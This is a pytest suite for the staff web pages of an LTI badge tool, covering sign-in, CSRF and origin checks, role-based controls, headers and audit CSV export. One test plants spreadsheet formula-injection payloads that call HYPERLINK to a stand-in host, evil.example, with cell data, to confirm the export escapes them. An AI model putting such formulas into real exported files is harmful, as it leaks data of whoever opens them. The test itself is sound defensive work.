"""The staff pages at their doors: who gets in, who sees which control, what forms and cookies must carry."""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from flask.testing import FlaskClient

import lti_tool
from lti_tool.domain.staff import StaffRole
from lti_tool.errors import Conflict, ErrorCode, NotAllowed
from lti_tool.services.records import RecordKind
from lti_tool.store.audit import EventFilter
from lti_tool.store.holders import HolderFilter
from lti_tool.web.staff.words import action_word, subject_word
from tests.gallery.staff_pages import CSRF, staff_pages
from tests.unit.web import staff_views as views
from tests.unit.web.sample_views import BASE_URL, NOW, session
from tests.unit.web.samples import SECRET, Sample

READ = tuple(
    dict.fromkeys(
        page.path.partition("?")[0]
        for page in staff_pages()
        if page.fields is None and page.status == 200 and "sign-in" not in page.path
    )
)
"""Every page that somebody signed in can open."""


@pytest.fixture
def staff(app: Flask) -> FlaskClient:
    """A browser that holds the cookie of a staff session."""
    client = app.test_client()
    client.set_cookie("staff_session", SECRET, path="/staff", domain="localhost")
    return client


def staff_routes(app: Flask) -> Iterator[tuple[str, str]]:
    """(method, path) of every route below /staff that needs a session."""
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/staff") and rule.endpoint not in ("staff.sign_in", "staff.use_link"):
            path = re.sub(r"<any\((\w+)[^>]*>", r"\1", rule.rule)
            for name in rule.arguments:
                path = path.replace(f"<{name}>", f"{name}-1")
            for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}:
                yield method, path


def noting(what: Callable[..., Any], asked: list[Any], read: Callable[..., Any]) -> Callable[..., Any]:
    """``read``, which notes ``what`` of each question in ``asked``."""

    def answer(*arguments: Any, **named: Any) -> Any:
        asked.append(what(*arguments, **named))
        return read(*arguments, **named)

    return answer


# -- getting in


def test_without_a_session_every_page_leads_to_the_sign_in(app: Flask, client: FlaskClient) -> None:
    tried = 0
    for method, path in staff_routes(app):
        answer = client.open(path, method=method, data={"csrf_token": CSRF} if method == "POST" else None)
        if method == "GET":
            assert (answer.status_code, answer.location) == (303, "/staff/sign-in"), path
        else:
            assert answer.status_code == 403, path
            assert "staff_sign_in_needed" in answer.text
        tried += 1
    assert tried > 30


def test_a_session_that_is_over_is_forgotten(client: FlaskClient) -> None:
    client.set_cookie("staff_session", "over", path="/staff", domain="localhost")
    answer = client.get("/staff/")
    assert answer.location == "/staff/sign-in?ended=yes"
    assert "staff_session=;" in answer.headers["Set-Cookie"]
    assert "Your session has ended." in client.get(answer.location).text


def test_looking_at_a_link_uses_nothing_up(client: FlaskClient, tool: Sample) -> None:
    for method in ("GET", "HEAD"):
        assert client.open("/staff/sign-in", method=method).status_code == 200
    assert client.get("/staff/sign-in?token=good-link").status_code == 200
    assert tool.calls == []


@pytest.mark.parametrize(
    "pasted", ["good-link", f"{BASE_URL}/staff/sign-in#good-link", f" {BASE_URL}/staff/sign-in#good-link\n"]
)
def test_a_link_or_its_end_signs_in(pasted: str, client: FlaskClient, tool: Sample) -> None:
    answer = client.post("/staff/sign-in", data={"token": pasted}, headers={"Origin": BASE_URL})
    assert (answer.status_code, answer.location) == (303, "/staff/")
    assert tool.calls == [("sign_in", "good-link", "")]
    parts = {part.strip() for part in answer.headers["Set-Cookie"].split(";")}
    assert {f"staff_session={SECRET}", "HttpOnly", "SameSite=Lax", "Secure", "Path=/staff"} <= parts
    assert "Max-Age=43200" in parts
    assert client.get("/staff/").status_code == 200


def test_signing_in_again_names_the_session_that_ends(staff: FlaskClient, tool: Sample) -> None:
    answer = staff.post("/staff/sign-in", data={"token": "good-link"}, headers={"Origin": BASE_URL})
    assert answer.status_code == 303
    assert tool.calls == [("sign_in", "good-link", SECRET)]


def test_a_link_that_does_not_work_says_where_another_comes_from(client: FlaskClient) -> None:
    answer = client.post("/staff/sign-in", data={"token": "used"}, headers={"Origin": BASE_URL})
    assert answer.status_code == 403
    assert "staff_link_invalid" in answer.text
    assert 'href="/staff/sign-in"' in answer.text
    assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize("origin", [None, "null", "https://evil.example", f"{BASE_URL}.evil.example"])
def test_no_other_site_signs_anybody_in(origin: str | None, client: FlaskClient, tool: Sample) -> None:
    """Somebody who is signed in as the attacker would do the attacker's work."""
    headers = {} if origin is None else {"Origin": origin}
    answer = client.post("/staff/sign-in", data={"token": "good-link"}, headers=headers)
    assert answer.status_code == 400
    assert "csrf_invalid" in answer.text
    assert tool.calls == []


def test_signing_out_ends_the_session_here_and_there(staff: FlaskClient, tool: Sample) -> None:
    answer = staff.post("/staff/sign-out", data={"csrf_token": CSRF})
    assert answer.location == "/staff/sign-in?signed_out=yes"
    assert tool.calls == [("sign_out", SECRET)]
    assert "staff_session=;" in answer.headers["Set-Cookie"]
    assert staff.get("/staff/").location == "/staff/sign-in"


# -- forms


def test_no_form_without_its_token_changes_anything(app: Flask, staff: FlaskClient, tool: Sample) -> None:
    posts = [path for method, path in staff_routes(app) if method == "POST"]
    assert len(posts) > 15
    for path in posts:
        for token in ("", "csrf-of-another", "é"):
            answer = staff.post(path, data={"csrf_token": token, "action": "approve", "role": "owner"})
            assert answer.status_code == 400, path
            assert "csrf_invalid" in answer.text
            assert "load the page again" in answer.text
    assert tool.calls == []


@pytest.mark.parametrize(
    "path",
    [
        "/staff/members/member-1/status",
        "/staff/members/member-1/role",
        "/staff/registrations/registration-1/status",
        "/staff/registrations/registration-1/administrators",
        "/staff/deployments/deployment-1/status",
        "/staff/micromodules/micromodule-1/status",
        "/staff/endorsements/endorsement-1/decision",
    ],
)
def test_a_button_that_no_page_has_does_nothing(path: str, staff: FlaskClient, tool: Sample) -> None:
    answer = staff.post(path, data={"csrf_token": CSRF, "action": "explode", "role": "king"})
    assert answer.status_code == 400
    assert tool.calls == []


@pytest.mark.parametrize(
    "path, fields, call",
    [
        ("organisation", {"name": "New"}, ("rename_organisation", "New")),
        ("organisation/palette", {"palette": "#0b6a5d"}, ("set_palette", "#0b6a5d")),
        (
            "endorsements",
            {"issuer_id": "i", "address": "https://x", "comment": "Good"},
            ("endorse", "i", "https://x", "Good"),
        ),
        ("endorsements/e/decision", {"action": "accept"}, ("accept", "e")),
        ("endorsements/e/decision", {"action": "refuse"}, ("refuse", "e")),
        ("endorsements/e/withdraw", {}, ("withdraw_endorsement", "e")),
        ("endorsements/import", {}, ("import_endorsement", b"")),
        ("members/m/role", {"role": "editor"}, ("change_role", "m", StaffRole.EDITOR)),
        ("members/m/status", {"action": "disable"}, ("disable", "m")),
        ("members/m/status", {"action": "enable"}, ("enable", "m")),
        ("registrations/r/status", {"action": "approve"}, ("approve_registration", "r")),
        ("registrations/r/status", {"action": "disable"}, ("disable_registration", "r")),
        (
            "registrations/r/administrators",
            {"role": "reader"},
            ("set_administrator_role", "r", StaffRole.READER),
        ),
        ("registrations/r/administrators", {"role": ""}, ("set_administrator_role", "r", None)),
        ("registrations/r/anonymous", {"allowed": "on"}, ("allow_anonymous", "r")),
        ("registrations/r/anonymous", {}, ("allow_anonymous", "r")),
        ("deployments/d/status", {"action": "approve"}, ("approve_deployment", "d")),
        ("deployments/d/status", {"action": "disable"}, ("disable_deployment", "d")),
        ("deployments/d/frame-origins", {"frame_origins": "x"}, ("set_frame_origins", "d", "x")),
        ("issuers", {"name": "N"}, ("add", {"name": "N"})),
        ("issuers/i", {"name": "N"}, ("change", "i", {"name": "N"})),
        ("issuers/i/status", {"action": "default"}, ("make_default", "i")),
        ("issuers/i/status", {"action": "retire"}, ("retire", "i")),
        ("issuers/i/status", {"action": "restore"}, ("retire", "i")),
        ("issuers/i/picture", {"action": "remove"}, ("change_picture", "i", None)),
        ("issuers/i/keys", {}, ("rotate", "i")),
        ("issuers/i/keys/k/compromised", {}, ("compromise", "i", "k")),
        ("micromodules/m/categories", {"category": "c"}, ("set_categories", "m", ["c"])),
        ("micromodules/m/status", {"action": "archive"}, ("archive_micromodule", "m", True)),
        ("micromodules/m/status", {"action": "restore"}, ("archive_micromodule", "m", False)),
        ("categories", {"name": "N"}, ("add_category", "N")),
        ("categories/c", {"name": "N"}, ("rename_category", "c", "N")),
        ("categories/c/delete", {}, ("delete_category", "c")),
        ("categories/c/move", {"step": "up"}, ("move_category", "c", -1)),
        (
            "categories/c/order",
            {"micromodule_id": "m", "step": "down"},
            ("move_micromodule", "c", "m", 1),
        ),
        ("credentials/c/revoke", {"reason": "R"}, ("revoke_credential", "c", "R")),
        ("credentials/c/suspend", {"reason": "R"}, ("suspend_credential", "c", "R")),
        ("credentials/c/resume", {}, ("resume_credential", "c")),
    ],
)
def test_a_form_does_what_its_button_says(
    path: str, fields: dict[str, str], call: tuple[object, ...], staff: FlaskClient, tool: Sample
) -> None:
    answer = staff.post(f"/staff/{path}", data={**fields, "csrf_token": CSRF})
    assert answer.status_code == 303
    (made,) = tool.calls
    assert tuple(part for part in made if part != tool.staffing.view) == call
    shown = BeautifulSoup(staff.get(answer.location).text, "html5lib")
    assert shown.select_one(".notice-good [class], .notice-good p") is not None


@pytest.mark.parametrize(
    "name",
    [
        "registrations_pending",
        "deployments_held",
        "rosters_in_trouble",
        "columns_in_trouble",
        "scores_refused",
        "unproved",
        "reviews",
        "courses_unread",
        "awards_unsigned",
        "renewals_unsigned",
    ],
)
def test_whatever_waits_for_somebody_is_on_the_first_page(
    name: str, staff: FlaskClient, tool: Sample
) -> None:
    found = replace(views.HEALTH["well"], counts=views.counts(**{name: 1}))
    tool.overview.health = lambda organisation_id: found
    page = BeautifulSoup(staff.get("/staff/").text, "html.parser")
    assert "All is well." not in page.get_text()
    assert len(page.select(".matters > li")) == 1


def test_an_invitation_is_shown_once_and_kept_nowhere(staff: FlaskClient, tool: Sample) -> None:
    fields = {"name": "Edgar", "email": "", "role": "editor", "csrf_token": CSRF}
    answer = staff.post("/staff/members", data=fields)
    assert views.LINK.url in answer.text
    assert answer.headers["Cache-Control"] == "no-store"
    assert tool.calls == [("invite", StaffRole.EDITOR, "Edgar", "")]
    assert views.LINK.url not in staff.get("/staff/organisation").text


# -- who sees what


CONTROLS = {
    StaffRole.OWNER: None,
    StaffRole.EDITOR: (
        "/staff/achievements/",
        "/staff/issuers",
        "/staff/micromodules/",
        "/staff/milestones",
        "/staff/currency",
        "/staff/categories",
        "/staff/frameworks",
        "/staff/organisation/palette",
    ),
    StaffRole.REVIEWER: ("/staff/credentials/",),
    StaffRole.READER: (),
}
"""Where the forms of a role may go to, beside signing out; of an owner's, everywhere."""


@pytest.mark.parametrize("role", CONTROLS)
def test_nobody_sees_a_control_that_would_be_refused(
    role: StaffRole, staff: FlaskClient, tool: Sample
) -> None:
    tool.staffing.view = views.staff(role)
    allowed = CONTROLS[role]
    seen = 0
    for path in READ:
        if path in ("/staff/members/new", "/staff/credentials/credential-1/revoke", "/staff/records"):
            continue  # refused whole, see below
        page = BeautifulSoup(staff.get(path).text, "html5lib")
        targets = {str(form["action"]) for form in page.select("form[method=post]")} - {"/staff/sign-out"}
        seen += len(targets)
        if allowed is not None:
            assert all(target.startswith(allowed) for target in targets), f"{path}: {targets}"
            assert page.select_one('a[href="/staff/members/new"]') is None
        has_revocation = bool(page.select('a[href$="/revoke"]'))
        if role in (StaffRole.EDITOR, StaffRole.READER):
            assert not has_revocation, path
    assert (seen > 0) == (allowed != ())


def test_what_the_operator_disabled_has_no_control_and_says_who_decides(
    staff: FlaskClient, tool: Sample
) -> None:
    tool.overview.registration = lambda *_: views.REGISTRATIONS["closed"]
    page = BeautifulSoup(staff.get("/staff/registrations/registration-1").text, "html5lib")
    assert [form["action"] for form in page.select("form[action$='/status']")] == []
    for command in ("lti-tool registrations approve", "lti-tool deployments approve"):
        assert command in page.text


@pytest.mark.parametrize(
    "path, roles",
    [
        ("/staff/members/new", (StaffRole.OWNER,)),
        ("/staff/endorsements/endorsement-6/withdraw", (StaffRole.OWNER,)),
        ("/staff/achievements/version-writing/correct", (StaffRole.OWNER, StaffRole.EDITOR)),
        ("/staff/credentials/credential-1/revoke", (StaffRole.OWNER, StaffRole.REVIEWER)),
        ("/staff/credentials/credential-1/suspend", (StaffRole.OWNER, StaffRole.REVIEWER)),
    ],
)
@pytest.mark.parametrize("role", list(StaffRole))
def test_a_page_that_only_changes_is_refused_to_others(
    path: str, roles: tuple[StaffRole, ...], role: StaffRole, staff: FlaskClient, tool: Sample
) -> None:
    tool.staffing.view = views.staff(role)
    answer = staff.get(path)
    assert answer.status_code == (200 if role in roles else 403)
    if role not in roles:
        assert "staff_not_allowed" in answer.text
        assert "Sign out" in answer.text  # the page's frame stays: there is a way on


def test_only_an_owner_invites(staff: FlaskClient, tool: Sample) -> None:
    fields = {"name": "Me", "role": "owner", "csrf_token": CSRF}
    for role in (StaffRole.EDITOR, StaffRole.REVIEWER, StaffRole.READER):
        tool.staffing.view = views.staff(role)
        assert staff.post("/staff/members", data=fields).status_code == 403
    assert tool.calls == []


def test_services_are_asked_for_ones_own_organisation(staff: FlaskClient, tool: Sample) -> None:
    tool.staffing.view = views.staff(organisation_id="organisation-7")
    asked: list[object] = []
    for name, read in vars(tool.overview).items():
        setattr(tool.overview, name, noting(lambda organisation_id, *_, **__: organisation_id, asked, read))
    for name in ("of_registration", "of_deployment", "unwell"):
        read = getattr(tool.health, name)
        setattr(tool.health, name, noting(lambda organisation_id, *_: organisation_id, asked, read))
    for name in ("of_organisation", "given"):
        read = getattr(tool.endorsing, name)
        setattr(tool.endorsing, name, noting(lambda staff, *_: staff.organisation_id, asked, read))
    for name in ("list", "framework"):
        read = getattr(tool.frameworks, name)
        setattr(tool.frameworks, name, noting(lambda organisation_id, *_: organisation_id, asked, read))
    for name in ("every", "one", "dry_run"):
        read = getattr(tool.milestones, name)
        setattr(tool.milestones, name, noting(lambda staff, *_: staff.organisation_id, asked, read))
    for name in ("page", "one"):
        read = getattr(tool.currency, name)
        setattr(tool.currency, name, noting(lambda staff, *_, **__: staff.organisation_id, asked, read))
    read = tool.currency.count_stale
    tool.currency.count_stale = noting(lambda organisation_id: organisation_id, asked, read)  # type: ignore[method-assign]
    for path in READ:
        staff.get(path)
    staff.get("/staff/audit.csv").get_data()
    assert len(asked) >= len(READ) - 3
    assert set(asked) == {"organisation-7"}


def test_the_address_that_endorsers_need_is_linked(staff: FlaskClient) -> None:
    page = BeautifulSoup(staff.get("/staff/micromodules/micromodule-1").text, "html5lib")
    links = [str(link["href"]) for link in page.select(".criteria-details a")]
    assert [one for one in links if one.startswith("/achievements/version-")]


def test_records_are_taken_by_whom_they_are_trusted_to_only(staff: FlaskClient, tool: Sample) -> None:
    path = "/staff/records/awards.csv?since=2026-03-01"
    staff.head(path)
    assert tool.calls == []
    answer = staff.get(path)
    assert answer.mimetype == "text/csv"
    assert 'filename="awards.csv"' in answer.headers["Content-Disposition"]
    assert "award_id,state," in answer.text
    view = tool.staffing.view
    since = datetime(2026, 3, 1, tzinfo=UTC)
    assert tool.calls == [("take", view.organisation_id, RecordKind.AWARDS, view.actor, since)]
    assert staff.get("/staff/records/awards.csv?since=soon").status_code == 400
    assert staff.get("/staff/records/learners.csv").status_code == 404
    for role in (StaffRole.EDITOR, StaffRole.READER):
        tool.staffing.view = views.staff(role)
        for refused in ("/staff/records", "/staff/records/completions.json"):
            assert staff.get(refused).status_code == 403
        assert 'href="/staff/records"' not in staff.get("/staff/").text
    assert len(tool.calls) == 1


# -- headers


def test_staff_pages_are_framed_by_nobody_and_kept_nowhere(staff: FlaskClient) -> None:
    for path in (*READ, "/staff/sign-in", "/staff/nothing-here", "/staff/audit.csv"):
        headers = staff.get(path).headers
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert headers["Cache-Control"] == "no-store", path


def test_a_launch_session_opens_no_staff_page(member: FlaskClient) -> None:
    assert member.get("/staff/").status_code == 303


def test_a_staff_session_opens_no_page_of_a_course(app: Flask) -> None:
    client = app.test_client()
    client.set_cookie("staff_session", SECRET, path="/", domain="localhost")
    assert client.get("/l/session-1/wallet").status_code == 403


# -- the way out of the frame


def test_an_administrator_of_the_platform_sees_the_way_to_the_staff_pages(
    member: FlaskClient, tool: Sample
) -> None:
    tool.launching.view = session(is_administrator=True)
    assert 'action="/l/session-1/staff"' in member.get("/l/session-1/wallet").text
    answer = member.post("/l/session-1/staff", data={"csrf_token": CSRF})
    link = BeautifulSoup(answer.text, "html5lib").select_one('a[target="_blank"]')
    assert link is not None
    assert link["href"] == views.HAND_OVER.url
    assert link["rel"] == ["noopener", "noreferrer"]
    assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize("is_administrator", [True, False])
def test_nobody_else_sees_it(is_administrator: bool, member: FlaskClient, tool: Sample) -> None:
    tool.launching.view = session(is_administrator=is_administrator)
    tool.staffing.administrator = None
    assert "/l/session-1/staff" not in member.get("/l/session-1/wallet").text
    assert member.post("/l/session-1/staff", data={"csrf_token": CSRF}).status_code == 403


def test_the_way_out_needs_the_forms_token(member: FlaskClient, tool: Sample) -> None:
    tool.launching.view = session(is_administrator=True)
    assert member.post("/l/session-1/staff", data={"csrf_token": "x"}).status_code == 400
    assert member.get("/l/session-1/staff").location == "/l/session-1/wallet"


# -- lists and the file


def test_a_filter_is_passed_on_as_it_was_typed(staff: FlaskClient, tool: Sample) -> None:
    asked: list[Any] = []
    tool.overview.holders = noting(
        lambda _, wanted, **paging: (wanted, paging["page"]), asked, tool.overview.holders
    )
    staff.get("/staff/holders?q=%20l%C3%B6v%20&micromodule=m1&state=revoked&page=3")
    staff.get("/staff/holders?state=evil&page=-4")
    staff.get("/staff/holders?page=many")
    assert asked == [
        (HolderFilter("löv", "m1", "revoked"), 3),
        (HolderFilter(), 1),
        (HolderFilter(), 1),
    ]


def test_leafing_keeps_the_filter(staff: FlaskClient) -> None:
    page = BeautifulSoup(staff.get("/staff/holders?q=lov&micromodule=micromodule-1").text, "html5lib")
    link = page.select_one('a[rel="next"]')
    assert link is not None
    assert link["href"] == "/staff/holders?q=lov&micromodule=micromodule-1&page=3"


@pytest.mark.parametrize("day", ["2026-02-30", "0001-01-01", "9999-12-31", "yesterday", ""])
def test_a_day_that_is_none_is_not_asked_for(day: str, staff: FlaskClient, tool: Sample) -> None:
    asked: list[EventFilter] = []
    tool.overview.trail = noting(lambda _, wanted, **__: wanted, asked, tool.overview.trail)
    assert staff.get("/staff/audit", query_string={"since": day, "until": day}).status_code == 200
    (wanted,) = asked
    assert wanted.until is None or wanted.until.year == 1


def test_the_day_until_is_included(staff: FlaskClient, tool: Sample) -> None:
    asked: list[EventFilter] = []
    tool.overview.trail = noting(lambda _, wanted, **__: wanted, asked, tool.overview.trail)
    staff.get("/staff/audit?since=2026-11-22&until=2026-11-22")
    (wanted,) = asked
    assert wanted.since is not None
    assert wanted.until is not None
    assert (wanted.until - wanted.since).days == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@"])
def test_no_cell_of_the_file_is_a_formula(start: str, staff: FlaskClient, tool: Sample) -> None:
    """Learners and teachers choose their names in the LMS; staff open the file in a spreadsheet."""
    name = f'{start}HYPERLINK("https://evil.example?"&A1)'
    row = views.event(1, "learner:learner-1", "credential.shared", "credential")
    tool.overview.trail_rows = lambda *_: iter([(row, name)])
    answer = staff.get("/staff/audit.csv")
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    header, line = csv.reader(io.StringIO(answer.text, newline=""))
    assert header[:3] == ["at", "actor", "name"]
    assert line[2] == f"'{name}"


def test_a_file_is_recorded_before_it_is_given(staff: FlaskClient, tool: Sample) -> None:
    staff.head("/staff/audit.csv")
    assert tool.calls == []
    staff.get("/staff/audit.csv?actor=cli").close()
    assert tool.calls == [("record_download", tool.staffing.view, EventFilter(actor="cli"))]
    tool.administering.record_download = failing(NotAllowed(ErrorCode.STAFF_NOT_ALLOWED))
    answer = staff.get("/staff/audit.csv")
    assert answer.status_code == 403
    assert "Olivia Owner" not in answer.get_data(as_text=True).partition("<main")[2]


def test_a_badge_that_somebody_revoked_first_is_shown_with_the_reason_that_stands(
    staff: FlaskClient, tool: Sample
) -> None:
    badge = replace(views.BADGE, revoked_at=NOW, revocation_reason="It was somebody else's work.")
    tool.administering.revoke_credential = failing(Conflict(ErrorCode.CONFLICT))
    tool.overview.credential = lambda *_: (badge, views.LEARNER)
    answer = staff.post("/staff/credentials/c/revoke", data={"reason": "Mine.", "csrf_token": CSRF})
    assert answer.status_code == 409
    assert "This badge is revoked already." in answer.text
    assert badge.revocation_reason in unescape(answer.text)
    assert "<textarea" not in answer.text


@pytest.mark.parametrize("action", ["credential.revoked", "something_from_a_newer_release"])
def test_the_filter_offers_every_word_of_the_log_and_keeps_what_was_asked(
    action: str, staff: FlaskClient
) -> None:
    page = BeautifulSoup(staff.get("/staff/audit", query_string={"action": action}).text, "html5lib")
    offered = [str(option["value"]) for option in page.select("#action option")]
    assert {"", "staff_signed_in", "audit_log.downloaded", action} <= set(offered)
    assert len(offered) == len(set(offered))
    assert [option["value"] for option in page.select("#action option[selected]")] == [action]


def failing(error: Exception) -> Callable[..., Any]:
    def fail(*_: Any, **__: Any) -> Any:
        raise error

    return fail


def test_the_file_holds_every_event(staff: FlaskClient) -> None:
    rows = list(csv.DictReader(io.StringIO(staff.get("/staff/audit.csv").text, newline="")))
    assert [row["subject_kind"] for row in rows] == [one.subject_kind for one in views.EVENTS]
    assert rows[0]["name"] == "Olivia Owner"


def recorded_actions() -> Iterator[str]:
    """What the services write into the audit log, as far as it stands there in full."""
    for path in (Path(lti_tool.__file__).parent / "services").glob("*.py"):
        for call in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(call, ast.Call):
                continue
            name = getattr(call.func, "attr", None) or getattr(call.func, "id", None)
            if name not in ("record", "_record", "_record_for_all"):
                continue
            said = [*call.args, *(one.value for one in call.keywords if one.arg == "action")]
            for constant in (part for one in said for part in ast.walk(one)):
                value = constant.value if isinstance(constant, ast.Constant) else None
                if isinstance(value, str) and re.fullmatch("[a-z_]+[._][a-z_]*[a-z]", value):
                    yield value


def test_the_log_has_a_word_for_everything_that_is_recorded(app: Flask) -> None:
    actions = set(recorded_actions())
    assert len(actions) > 20
    assert {"credential.revoked", "staff_invited", "learner.confirmed", "deployment_held"} <= actions
    with app.test_request_context():
        assert {action for action in actions if action_word(action) == action} == set()


def test_the_log_has_a_word_for_every_kind_of_thing(app: Flask) -> None:
    kinds = {
        str(keyword.value.value)
        for path in (Path(lti_tool.__file__).parent / "services").glob("*.py")
        for call in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(call, ast.Call)
        for keyword in call.keywords
        if keyword.arg == "subject_kind" and isinstance(keyword.value, ast.Constant)
    }
    assert {"credential", "staff_member", "micromodule_version"} <= kinds
    with app.test_request_context():
        assert {kind for kind in kinds if subject_word(kind) == kind} == set()


def test_a_badges_id_leads_to_its_holder(staff: FlaskClient) -> None:
    assert staff.get("/staff/credentials/credential-1").location == "/staff/holders/learner-1"
